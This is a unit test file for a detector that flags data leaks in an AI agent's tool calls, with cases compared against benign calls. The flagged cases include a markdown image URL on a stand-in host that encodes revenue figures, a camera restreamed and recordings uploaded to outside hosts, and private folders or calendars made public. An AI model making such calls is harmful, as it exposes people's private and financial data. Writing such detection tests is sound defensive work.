"""What a call shows of people, and of what nobody spoke."""

from __future__ import annotations

from typing import Any

import pytest

from host.inspect.described import subject_of
from host.inspect.flows.exfiltration import find_flows
from host.inspect.flows.leaks_shown import of_shown
from host.model import Severity
from tests.unit.host.inspect.making import worst


def found(server: str, tool: str, arguments: dict[str, Any], turn: str = "") -> list[Severity]:
    call: dict[str, Any] = {"app": "a", "server": server, "tool": tool, "arguments": arguments, "turn": turn}
    return [it.severity for it in of_shown(subject_of(call))]


OUT: tuple[tuple[Any, ...], ...] = (
    (
        "ha",
        "call_service",
        {"service": "push", "data": {"camera": "camera.kind", "url": "https://cdn.baby.example/in"}},
    ),
    ("frigate", "start_restream", {"camera": "hall", "target": "rtmp://live.cast.example/in/88"}),
    ("assist", "start_recording", {"entity": "microphone.office", "upload_url": "https://in.voice.example/r"}),
    ("survey", "get_results", {"survey": "p", "min_group_size": 1}),
    ("survey", "get_report", {"survey": "p", "anonymity_threshold": 1}),
    ("qualtrics", "export_responses", {"survey": "s", "anonymize": False}),
    (
        "pulse",
        "get_results",
        {"group_by": ["department", "birth_year", "gender", "start_date"]},
        "How happy are people?",
    ),
    ("obsidian", "publish_notes", {"folders": ["Tagebuch", "Therapie"]}, "publish my Garten notes"),
    ("piwigo", "publish_albums", {"albums": ["Enfants bain"]}, "publie mes photos de randonnée"),
    ("github", "add_comment", {"body": "![b](https://b.ci.example/Q3-revenue-2.914.300-loss-188.450.svg)"}),
    ("notion", "update_page", {"page": "p", "public_access": "read"}),
    ("mongodb", "aggregate", {"collection": "u", "pipeline": [{"$out": {"s3": {"bucket": "b", "filename": "u"}}}]}),
    ("calendar", "update_acl", {"calendarId": "primary", "scope": {"type": "default"}, "role": "reader"}),
    ("k8s", "create_clusterrolebinding", {"clusterrole": "view", "group": "system:anonymous"}),
)


@pytest.mark.parametrize("at", range(len(OUT)))
def test_what_is_shown_is_looked_at(at: int) -> None:
    assert found(*OUT[at]) == [Severity.MEDIUM]


STAYS: tuple[tuple[Any, ...], ...] = (
    ("ha", "call_service", {"service": "play_stream", "data": {"entity_id": "camera.door"}}),
    ("frigate", "add_camera", {"name": "yard", "stream": "rtsp://192.168.1.40/live"}),
    ("frigate", "start_restream", {"camera": "hall", "target": "rtmp://live.cast.example/in"}, "to live.cast.example"),
    ("survey", "get_results", {"survey": "p", "min_group_size": 10, "group_by": ["department"]}),
    ("typeform", "create_form", {"title": "Lunch", "anonymous": True}),
    ("obsidian", "publish_notes", {"folders": ["Garten"]}, "publish my Garten notes"),
    ("wordpress", "publish_posts", {"folder": "Reise"}, "publish it"),
    ("github", "add_comment", {"body": "![build](https://img.shields.io/badge/build-passing-green)"}),
    ("github", "add_comment", {"body": "![dl](https://img.shields.io/badge/downloads-12,345,678-blue)"}),
    ("notion", "update_page", {"page": "p", "public_access": "none"}),
    ("mongodb", "aggregate", {"collection": "u", "pipeline": [{"$out": "totals"}]}),
    ("calendar", "update_acl", {"calendarId": "primary", "scope": {"type": "user"}, "role": "reader"}),
    ("notion", "get_page", {"page": "p", "public_access": "read"}),
)


@pytest.mark.parametrize("at", range(len(STAYS)))
def test_what_people_do_all_day_is_no_finding(at: int) -> None:
    assert found(*STAYS[at]) == []


def leaves(
    server: str, tool: str, arguments: dict[str, Any], source: str = "quickbooks", host: str = ""
) -> Severity | None:
    result = f"Margin Q3 1.204.550, cash 88.410 (internal), payroll of May for 38 people {host}"
    earlier = [{"server": source, "tool": "get_report", "arguments": {}, "result": result}]
    call: dict[str, Any] = {"app": "a", "server": server, "tool": tool, "arguments": arguments, "earlier": earlier}
    return worst(list(find_flows(subject_of(call))), "exfiltration")


def test_sums_in_the_path_of_an_address_are_looked_at() -> None:
    said = {"body": "See [docs](https://help.stat.example/q3-margin-1.204.550/cash-88.410)"}
    assert leaves("github", "create_issue_comment", said, "metrics") is Severity.MEDIUM
    assert leaves("github", "create_issue_comment", said, "metrics", host="https://help.stat.example") is None


def test_what_a_service_draws_of_private_data_is_looked_at() -> None:
    said = {"html": "<h1>cash 88.410 (internal), payroll of May for 38 people</h1>"}
    assert leaves("html2pdf", "render_pdf", said, "payroll") is Severity.MEDIUM


def test_a_guest_of_whom_nobody_spoke_is_looked_at() -> None:
    call: dict[str, Any] = {"app": "a", "server": "google-calendar", "tool": "update_event"}
    guests: dict[str, Any] = {"event_id": "b1", "attendees": ["k.lund@outside.example"]}
    moved = subject_of({**call, "arguments": guests, "turn": "move the board meeting to 3 pm"})
    asked = subject_of({**call, "arguments": guests, "turn": "invite Karl to the board meeting"})
    assert worst(list(find_flows(moved)), "exfiltration") is Severity.MEDIUM
    assert worst(list(find_flows(asked)), "exfiltration") is None
